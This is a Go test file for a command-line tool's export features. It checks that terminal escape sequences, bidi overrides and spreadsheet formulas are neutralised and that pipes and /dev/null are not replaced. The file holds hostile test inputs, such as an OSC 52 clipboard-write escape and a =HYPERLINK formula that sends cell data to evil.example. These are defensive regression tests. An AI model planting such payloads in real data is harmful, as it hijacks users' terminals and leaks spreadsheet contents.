package main

// Exports that could attack the user: escapes reaching a terminal, formulas
// reaching a spreadsheet, and -o / backup FILE replacing a device or pipe.

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"

	"github.com/rebound-coach/rebound/internal/textsafe"
)

// evilWho carries what a hostile import or paste could store: an OSC 52
// clipboard write, a window title, the alternate screen, a clear, a C1 CSI,
// a bidi override, DEL and BEL (valid UTF-8, so it is stored exactly).
const evilWho = "Evil\x1b]52;c;cHduZWQ=\x07\x1b]0;pwned\x07\x1b[?1049h\x1b[2J Corp\u009b31m \u202eyroC 日本語 👍🏽\x7f"

// onPTY runs the binary with its stdout on a new pseudo-terminal (or, with
// toPath, its stdout a pipe and -o the terminal's own /dev/pts path) and
// returns every byte written to the terminal.
func onPTY(t *testing.T, toPath bool, db string, args ...string) []byte {
	t.Helper()
	master, slave, err := pty.Open()
	if err != nil {
		t.Skipf("no pty: %v", err)
	}
	defer master.Close()
	if toPath {
		args = append(args, "-o", slave.Name())
	}
	cmd := exec.Command(rebound(t), append([]string{"--db", db}, args...)...)
	cmd.Env = append(os.Environ(), "TERM=xterm-256color")
	var errb bytes.Buffer
	cmd.Stderr = &errb
	if !toPath {
		cmd.Stdout = slave
	}
	got := make(chan []byte, 1)
	go func() {
		b, _ := io.ReadAll(master) // EIO once every slave is closed
		got <- b
	}()
	err = cmd.Run()
	slave.Close()
	if err != nil {
		t.Fatalf("%v: %v %s", args, err, errb.String())
	}
	select {
	case b := <-got:
		return bytes.ReplaceAll(b, []byte("\r\n"), []byte("\n"))
	case <-time.After(10 * time.Second):
		t.Fatalf("%v: the terminal never closed", args)
		return nil
	}
}

// Every export format shown on a terminal, on stdout or through -o, holds
// no rune a terminal obeys; the JSON shown is still exactly what is stored.
func TestExportToTerminalIsInert(t *testing.T) {
	t.Parallel()
	db := filepath.Join(t.TempDir(), "rebound.db")
	if _, errOut, code := run(t, db, "log", "--who", evilWho, "--said", "line1\nline2\x1b[1A\x08", "--reason", "price"); code != 0 {
		t.Fatalf("log: %s", errOut)
	}
	for _, toPath := range []bool{false, true} {
		for _, format := range []string{"csv", "json", "md"} {
			out := onPTY(t, toPath, db, "export", "--format", format)
			for i, r := range string(out) {
				if r != '\n' && textsafe.Hidden(r) {
					t.Errorf("%s (-o tty %v): %U at byte %d reached the terminal:\n%q", format, toPath, r, i, out)
					break
				}
			}
			if !bytes.Contains(out, []byte("日本語")) {
				t.Errorf("%s (-o tty %v) lost the text: %q", format, toPath, out)
			}
			if format == "json" {
				var e struct{ Nos []struct{ Who, Said string } }
				if err := json.Unmarshal(out, &e); err != nil || len(e.Nos) != 1 || e.Nos[0].Who != evilWho {
					t.Errorf("json on a terminal is not exact (%v): %q", err, out)
				}
			}
		}
	}
}

// Every --json command prints inert JSON on a terminal (the same values:
// C1 and bidi controls as \u escapes) and the exact bytes into a pipe.
func TestJSONCommandsOnATerminalAreInert(t *testing.T) {
	t.Parallel()
	db := filepath.Join(t.TempDir(), "rebound.db")
	if _, errOut, code := run(t, db, "log", "--who", evilWho, "--reason", "price", "--follow-up", "today"); code != 0 {
		t.Fatalf("log: %s", errOut)
	}
	for _, args := range [][]string{{"show", "1", "--json"}, {"journal", "--json"}, {"followups", "--json"}, {"who", evilWho, "--json"}, {"debrief", "1", "--json"}} {
		out := onPTY(t, false, db, args...)
		for i, r := range string(out) {
			if r != '\n' && textsafe.Hidden(r) {
				t.Errorf("%v: %U at byte %d reached the terminal", args, r, i)
				break
			}
		}
		if !bytes.Contains(out, []byte(`\u202e`)) || !bytes.Contains(out, []byte("日本語")) {
			t.Errorf("%v: the text is not there, escaped: %q", args, out)
		}
		piped, _, _ := run(t, db, args...)
		if !strings.Contains(piped, "\u202e") {
			t.Errorf("%v: into a pipe the bytes changed: %q", args, piped)
		}
	}
}

// JSON written to a file stays exact: hostile text survives export and
// import byte for byte.
func TestJSONExportToFileIsExact(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	a, b := filepath.Join(dir, "a.db"), filepath.Join(dir, "b.db")
	said := "line1\r\nline2\x1b[1A\x08\u2028\u202e"
	if _, errOut, code := run(t, a, "log", "--who", evilWho, "--said", said, "--reason", "price"); code != 0 {
		t.Fatalf("log: %s", errOut)
	}
	exp := filepath.Join(dir, "e.json")
	if _, errOut, code := run(t, a, "export", "-o", exp); code != 0 {
		t.Fatalf("export: %s", errOut)
	}
	if _, errOut, code := run(t, b, "import", exp); code != 0 {
		t.Fatalf("import: %s", errOut)
	}
	out, _, _ := run(t, b, "export")
	var e struct{ Nos []struct{ Who, Said string } }
	if err := json.Unmarshal([]byte(out), &e); err != nil || len(e.Nos) != 1 || e.Nos[0].Who != evilWho || e.Nos[0].Said != said {
		t.Fatalf("round trip changed the text (%v): %+v", err, e.Nos)
	}
}

// A who of =HYPERLINK(...) reaches the CSV file as text, not a formula.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	db := filepath.Join(dir, "rebound.db")
	who := `=HYPERLINK("https://evil.example/?d="&A1,"Open the deal")`
	if _, errOut, code := run(t, db, "log", "--who", who, "--lesson=-1+1", "--reason", "price"); code != 0 {
		t.Fatalf("log: %s", errOut)
	}
	file := filepath.Join(dir, "nos.csv")
	if _, errOut, code := run(t, db, "export", "--format", "csv", "-o", file); code != 0 {
		t.Fatalf("export: %s", errOut)
	}
	data, _ := os.ReadFile(file)
	if !bytes.Contains(data, []byte(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open the deal"")"`)) ||
		!bytes.Contains(data, []byte(`"'-1+1"`)) {
		t.Fatalf("formulas not neutralised:\n%s", data)
	}
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][5] != "'"+who {
		t.Fatalf("csv reads back %q (%v)", rows, err)
	}
}

// export -o and backup FILE write a named pipe, a character device and
// /dev/stdout in place; each stays what it was.
func TestExportAndBackupOntoPipesAndDevices(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	db := filepath.Join(dir, "rebound.db")
	if _, errOut, code := run(t, db, "log", "--who", "Acme", "--reason", "price"); code != 0 {
		t.Fatalf("log: %s", errOut)
	}

	// A named pipe, read while it is written.
	fifo := filepath.Join(dir, "pipe")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"export", "-o", fifo}, {"backup", fifo}} {
		got := make(chan []byte, 1)
		go func() {
			f, err := os.Open(fifo)
			if err != nil {
				got <- nil
				return
			}
			b, _ := io.ReadAll(f)
			f.Close()
			got <- b
		}()
		if _, errOut, code := run(t, db, args...); code != 0 {
			t.Fatalf("%v: exit %d %s", args, code, errOut)
		}
		select {
		case b := <-got:
			if args[0] == "export" && !bytes.Contains(b, []byte(`"who": "Acme"`)) ||
				args[0] == "backup" && len(b) < 4096 {
				t.Errorf("%v: the pipe carried %d bytes: %.200q", args, len(b), b)
			}
		case <-time.After(10 * time.Second):
			t.Fatalf("%v: nothing reached the pipe", args)
		}
		if fi, err := os.Lstat(fifo); err != nil || fi.Mode()&os.ModeNamedPipe == 0 {
			t.Fatalf("%v: the pipe is now %v (%v)", args, fi.Mode(), err)
		}
	}

	// A private copy of /dev/null (mknod), so a failure cannot touch the
	// machine's own; only when it passes is the real /dev/null tried.
	if os.Getuid() != 0 {
		t.Skip("not root: only root can make a device node, and only root could replace /dev/null")
	}
	isNull := func(p string) bool {
		fi, err := os.Lstat(p)
		return err == nil && fi.Mode()&os.ModeCharDevice != 0 && fi.Mode().Perm() == 0o666 &&
			fi.Sys().(*syscall.Stat_t).Rdev == 1<<8|3
	}
	null := filepath.Join(dir, "null")
	if err := syscall.Mknod(null, syscall.S_IFCHR|0o666, 1<<8|3); err != nil {
		t.Skipf("cannot make a device node: %v", err)
	}
	os.Chmod(null, 0o666)
	for _, args := range [][]string{{"export", "--format", "csv", "-o", null}, {"backup", null}} {
		if _, errOut, code := run(t, db, args...); code != 0 || !isNull(null) {
			t.Fatalf("%v: exit %d %s; the device node is now %v", args, code, errOut, mode(null))
		}
	}
	if !isNull("/dev/null") {
		t.Skipf("/dev/null is not the usual device here (%v)", mode("/dev/null"))
	}
	for _, args := range [][]string{{"export", "-o", "/dev/null"}, {"backup", "/dev/null"}} {
		_, errOut, code := run(t, db, args...)
		if !isNull("/dev/null") {
			// Put the machine's /dev/null back before failing.
			os.Remove("/dev/null")
			syscall.Mknod("/dev/null", syscall.S_IFCHR|0o666, 1<<8|3)
			os.Chmod("/dev/null", 0o666)
			t.Fatalf("%v replaced /dev/null (exit %d %s)", args, code, errOut)
		}
		if code != 0 {
			t.Fatalf("%v: exit %d %s", args, code, errOut)
		}
	}

	// /dev/stdout is the stream the command was given.
	if target, err := os.Readlink("/dev/stdout"); err == nil {
		out, errOut, code := run(t, db, "export", "--format", "csv", "-o", "/dev/stdout")
		if now, err := os.Readlink("/dev/stdout"); err != nil || now != target {
			os.Remove("/dev/stdout")
			os.Symlink(target, "/dev/stdout")
			t.Fatalf("export -o /dev/stdout replaced /dev/stdout (exit %d %s)", code, errOut)
		}
		if code != 0 || !strings.Contains(out, `"Acme"`) {
			t.Fatalf("export -o /dev/stdout: exit %d %q %s", code, out, errOut)
		}
	}
}

func mode(p string) os.FileMode {
	fi, err := os.Lstat(p)
	if err != nil {
		return 0
	}
	return fi.Mode()
}
